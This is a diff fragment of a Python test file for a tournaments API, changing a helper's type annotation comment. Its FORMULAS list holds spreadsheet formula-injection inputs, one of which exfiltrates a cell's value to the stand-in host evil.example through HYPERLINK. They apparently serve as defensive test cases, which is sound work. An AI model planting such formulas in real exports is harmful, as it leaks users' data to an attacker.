@@ -19,7 +19,7 @@ from tests.tournaments.test_players_api import LEGAL_DECK
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,1)", "@cmd", "-2+3", "=1+1"]
 
 
-def _entered_with_deck(client, organiser: str, tid: str) -> tuple[str, str, str]:  # type: ignore[no-untyped-def]
+def _entered_with_deck(client, organiser: str, tid: str) -> tuple[str, str, str]:
     player = client.new_user_token()
     pid = client.post(
         f"/v1/tournaments/{tid}/players", token=organiser, json={"user_id": user_id(client, player)}
